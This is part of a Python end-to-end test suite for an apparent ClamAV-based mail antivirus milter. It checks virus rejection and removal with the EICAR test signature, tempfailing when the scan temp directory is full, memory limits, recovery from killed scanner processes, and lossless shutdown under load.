            raise unittest.SkipTest("clamd (clamav-daemon) not installed")
        cls.tmp = tempfile.mkdtemp(prefix="sekimori-avc-")
        cls.addClassCleanup(shutil.rmtree, cls.tmp, True)
        os.chmod(cls.tmp, 0o755)
        cls.clamd = harness.Clamd(make_database(cls.tmp), threads=4)
        cls.addClassCleanup(cls.clamd.cleanup)
        cls.clamd.start()
        conf = CONF.format(db=os.path.join(cls.tmp, "db"), admin="", port=1, templates=TEMPLATES,
                           quarantine=os.path.join(cls.tmp, "quarantine"), outbox=os.path.join(cls.tmp, "outbox"))
        conf = conf.replace("[engine]\n", "[engine]\nbackend = clamd\nclamd_address = %s\n" % cls.clamd.sock)
        conf = conf.replace("[notify]\n", "[notify]\nenabled = no\n")
        cls.milter = harness.Milter("antivirus", conf)
        cls.site = harness.Site([cls.milter], name="antivirus-clamd")
        cls.site.start()
        cls.addClassCleanup(cls.site.stop)

    def test_outbound_virus_is_rejected(self):
        r = self.site.swaks(data=with_attachment(zip_of("eicar.com", EICAR), "a.zip", "application/zip",
                                                 frm="alice@example.net", to="bob@remote.example"),
                            frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertEqual(r.final, ("554", "5.7.1"), r.transcript[-1500:])
        self.assertIn("Virus found: " + SIGNAME, r.final_text)

    def test_inbound_attachment_is_removed_and_headers_name_clamd(self):
        msgid = "<clamd-%s@example.org>" % os.urandom(4).hex()
        r = self.site.swaks(data=with_attachment(EICAR, "eicar.com", msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got = self.site.sink.wait_for(msgid)
        self.assertNotIn(b"EICAR-STANDARD", got)
        self.assertIn(b"X-Virus-Status: removed: " + SIGNAME.encode(), got)
        self.assertIn(b"X-Virus-Scanned: sekimori-antivirus clamd ", got)

    def test_clean_mail_is_delivered(self):
        msgid = "<clamd-clean-%s@example.org>" % os.urandom(4).hex()
        r = self.site.swaks(data=harness.make_message(msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"))
        self.assertIn(b"X-Virus-Status: clean", self.site.sink.wait_for(msgid))


class PlainSiteTest(unittest.TestCase):
    """A private Postfix and a fresh sekimori-antivirus (the plain binary,
    no warning mails) for each test, for tests that stop or break it."""

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="sekimori-av-plain-")
        self.addCleanup(shutil.rmtree, self.tmp, True)  # runs even when setUp raises
        os.chmod(self.tmp, 0o755)
        db = make_database(self.tmp)
        conf = CONF.format(db=db, admin="", port=1, templates=TEMPLATES,
                           quarantine=os.path.join(self.tmp, "quarantine"), outbox=os.path.join(self.tmp, "outbox"))
        conf = conf.replace("[notify]\n", "[notify]\nenabled = no\n")
        # The scanner workers' temp directories in the test's own directory.
        self.scantmp = os.path.join(self.tmp, "scantmp")
        os.makedirs(self.scantmp)
        conf = conf.replace("[engine]\n", "[engine]\ntemp_dir = %s\n%s" % (self.scantmp, self.engine_conf))
        self.milter = harness.Milter("antivirus", conf, wrapper=self.wrapper())
        self.site = harness.Site([self.milter], name="antivirus-plain")
        self.site.start()
        self.addCleanup(self.site.stop)

    engine_conf = ""  # more [engine] settings, which take effect at start only

    def wrapper(self):
        """What the daemon is started under (harness.Milter's wrapper)."""
        return ()


class AntivirusTempFullE2E(PlainSiteTest):
    """The scanner's temp directory on a full file system (a 256 KiB tmpfs,
    mounted in a mount namespace of the daemon's own, so it is gone with
    the daemon whatever happens): the message is tempfailed (nothing lost),
    the reply's log line says why, and libclamav's messages about each
    write it could not make are not logged by the hundred."""

    def wrapper(self):
        if os.geteuid() != 0 or shutil.which("unshare") is None:
            raise unittest.SkipTest("needs root and unshare (util-linux) to mount a tmpfs of its own")
        return ["unshare", "--mount", "--propagation", "private", "sh", "-c",
                'mount -t tmpfs -o size=256k,mode=0700 sekimori-test "$0" && exec "$@"', self.scantmp]

    def test_a_full_temp_directory_tempfails_and_says_so_once(self):
        big = os.urandom(2000000)
        r = self.site.swaks(data=with_attachment(big, "big.bin"))
        self.assertEqual(r.final, ("451", "4.3.0"), r.transcript[-1500:])
        harness.wait_until(lambda: self.milter.log_lines(r"action=tempfail"), 10, "the tempfail log line")
        line = self.milter.log_lines(r"action=tempfail")[0]
        self.assertRegex(line, r"error=\".*the temp directory %s/sekimori-av-scan-\d+ is on a full file system "
                               r"\(\d+ bytes free; see \[engine\] temp_dir\)\"" % re.escape(self.scantmp))
        said = self.milter.log_lines(r"libclamav: ")
        muted = [l for l in said if "more message(s) in the same scan not logged" in l]
        self.assertEqual(len(muted), 1, said[-20:])
        self.assertLessEqual(len(said), 11, said[-20:])
        self.assertGreater(int(re.search(r"libclamav: (\d+) more", muted[0]).group(1)), 100)
        # The tmpfs was the daemon's alone: here the directory is as it was, empty.
        self.assertEqual(os.listdir(self.scantmp), [])
        # Room again (the worker that failed took its files with it): scanned.
        r = self.site.swaks(data=with_attachment(EICAR, "eicar.com", frm="alice@example.net",
                                                 to="bob@remote.example"),
                            frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertEqual(r.final, ("554", "5.7.1"), r.transcript[-1500:])


class AntivirusScanMemoryE2E(PlainSiteTest):
    """[engine] max_scan_memory. libclamav's mail parser keeps each line of
    a message apart: 6 MB of empty lines take it about 190 MiB. Past the
    limit the message gets limits_exceeded_action (the default: as a virus,
    here inbound in the body: 554), not a tempfail at every retry and not
    the machine's memory; the worker is replaced and mail flows on."""

    engine_conf = "max_scan_memory = 64M\n"

    def test_a_message_needing_more_memory_than_max_scan_memory_is_a_limit(self):
        mime = ["MIME-Version: 1.0", "Content-Type: text/plain; charset=us-ascii"]  # (only MIME is parsed so)
        r = self.site.swaks(data=harness.make_message(body="\r\n" * 3000000, headers=mime))
        if harness.sanitized(self.milter.binary):
            # A sanitizer's allocator aborts the worker where malloc would fail: a
            # scan failure (scan_failure_action), never a delivery either.
            self.assertEqual(r.final, ("451", "4.3.0"), r.transcript[-1500:])
        else:
            self.assertEqual(r.final, ("554", "5.7.1"), r.transcript[-1500:])
            self.assertIn("Virus found: Heuristics.Limits.Exceeded.MaxScanMemory", r.final_text)
            harness.wait_until(lambda: self.milter.log_lines(r"MaxScanMemory"), 10, "the log line")
        r = self.site.swaks(data=harness.make_message())
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        r = self.site.swaks(data=harness.make_message(body=EICAR.decode() + "\r\n"))
        self.assertEqual(r.final, ("554", "5.7.1"), r.transcript[-1500:])
        self.assertIn("Virus found: " + SIGNAME, r.final_text)
        self.assertIsNone(self.milter.proc.poll(), "the daemon keeps running")


class AntivirusPoolDeathE2E(PlainSiteTest):
    """The scanner processes killed under a running daemon. The engine
    process (the big one, the OOM killer's pick) is replaced by a fresh load
    and mail keeps flowing. The supervisor killed: the daemon exits with
    status 2 (for systemd's Restart=on-failure) instead of tempfailing every
    message for ever, and Postfix tempfails meanwhile (nothing is lost)."""

    def children(self, pid):
        return subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True).stdout.split()

    def test_engine_process_killed_is_replaced_and_scanning_goes_on(self):
        supervisors = self.children(self.milter.proc.pid)
        self.assertEqual(len(supervisors), 1, supervisors)
        engines = self.children(supervisors[0])
        self.assertEqual(len(engines), 1, "one engine process under the supervisor: %s" % engines)
        old_workers = self.children(engines[0])
        harness.wait_until(lambda: sorted(os.listdir(self.scantmp)) ==
                           sorted("sekimori-av-scan-" + w for w in old_workers), 10,
                           "a temp directory for each worker")
        os.kill(int(engines[0]), signal.SIGKILL)
        harness.wait_until(lambda: "loading the signatures again" in self.milter.log(), 10,
                           "the supervisor to see its engine process go")
        r = self.site.swaks(data=harness.make_message(body=EICAR.decode() + "\r\n"))
        self.assertEqual(r.final[0], "554", r.transcript[-1500:])
        self.assertIn("Virus found: " + SIGNAME, r.transcript)
        r = self.site.swaks(data=harness.make_message())
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        self.assertIsNone(self.milter.proc.poll(), "the daemon keeps running")
        replaced = self.children(supervisors[0])
        self.assertEqual(len(replaced), 1, replaced)
        self.assertNotEqual(replaced, engines)
        # The dead workers' temp directories are gone; the new ones' are there.
        harness.wait_until(lambda: sorted(os.listdir(self.scantmp)) ==
                           sorted("sekimori-av-scan-" + w for w in self.children(replaced[0])), 10,
                           "only the new workers' temp directories")

    def test_daemon_exits_when_its_scanner_processes_are_killed(self):
        r = self.site.swaks(data=harness.make_message())
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        children = self.children(self.milter.proc.pid)
        self.assertEqual(len(children), 1, "one scanner supervisor under the daemon: %s" % children)
        os.kill(int(children[0]), signal.SIGKILL)
        t0 = time.monotonic()
        harness.wait_until(lambda: self.milter.proc.poll() is not None, 20, "the daemon to exit")
        print("daemon exited %.1f s after its scanner supervisor was killed" % (time.monotonic() - t0))
        self.assertEqual(self.milter.proc.returncode, 2)
        self.assertIn("stopping: the scanner processes are gone", self.milter.log())
        r = self.site.swaks(data=harness.make_message())
        self.assertEqual(r.final[0][0], "4", r.transcript[-1500:])


class AntivirusStopUnderLoadE2E(PlainSiteTest):
    """SIGTERM while ten clients send: every message is either delivered or
    tempfailed (never lost, never refused for good), the scans in flight
    finish, and the daemon exits 0."""

    def test_sigterm_under_load_loses_nothing(self):
        results, lock, enough = [], threading.Lock(), threading.Event()

        def client(k):
            for i in range(60):
                msgid = "<load-%d-%d-%s@example.org>" % (k, i, os.urandom(3).hex())
                data = harness.make_message(msgid=msgid, body=("line %d of a clean message\r\n" % i) * 1000)
                try:
                    c = smtplib.SMTP("127.0.0.1", self.site.port, local_hostname="client.example.org", timeout=60)
                    code, _ = c.mail("sender@example.org")
                    if code == 250:
                        code, _ = c.rcpt("user@example.net")
                    if code == 250:
                        code, _ = c.data(data)
                    c.quit()
                except smtplib.SMTPResponseException as e:
                    code = e.smtp_code
                except (OSError, smtplib.SMTPException) as e:
                    code = repr(e)
                with lock:
                    results.append((msgid, code))
                    if sum(1 for _, c in results if c == 250) >= 50:
                        enough.set()

        clients = [threading.Thread(target=client, args=(k,)) for k in range(10)]
        for t in clients:
            t.start()
        try:
            self.assertTrue(enough.wait(60), "50 messages accepted before the stop")
            proc = self.milter.proc
            proc.send_signal(signal.SIGTERM)
            proc.wait(60)
        finally:
            for t in clients:
                t.join()
        self.assertEqual(proc.returncode, 0, self.milter.log()[-1500:])
        self.milter.proc = None
        codes = [c for _, c in results]
        print("after SIGTERM at 50 accepted: %d accepted, %d tempfailed, others: %s" % (
            codes.count(250), codes.count(451), [c for c in codes if c not in (250, 451)]))
        self.assertEqual([c for c in codes if c not in (250, 451)], [], "only delivered or tempfailed")
        self.assertGreater(codes.count(451), 0, "the stop came while clients were still sending")
        for msgid, code in results:
            if code == 250:
                self.site.sink.wait_for(msgid)  # accepted means delivered

if __name__ == "__main__":
    unittest.main()
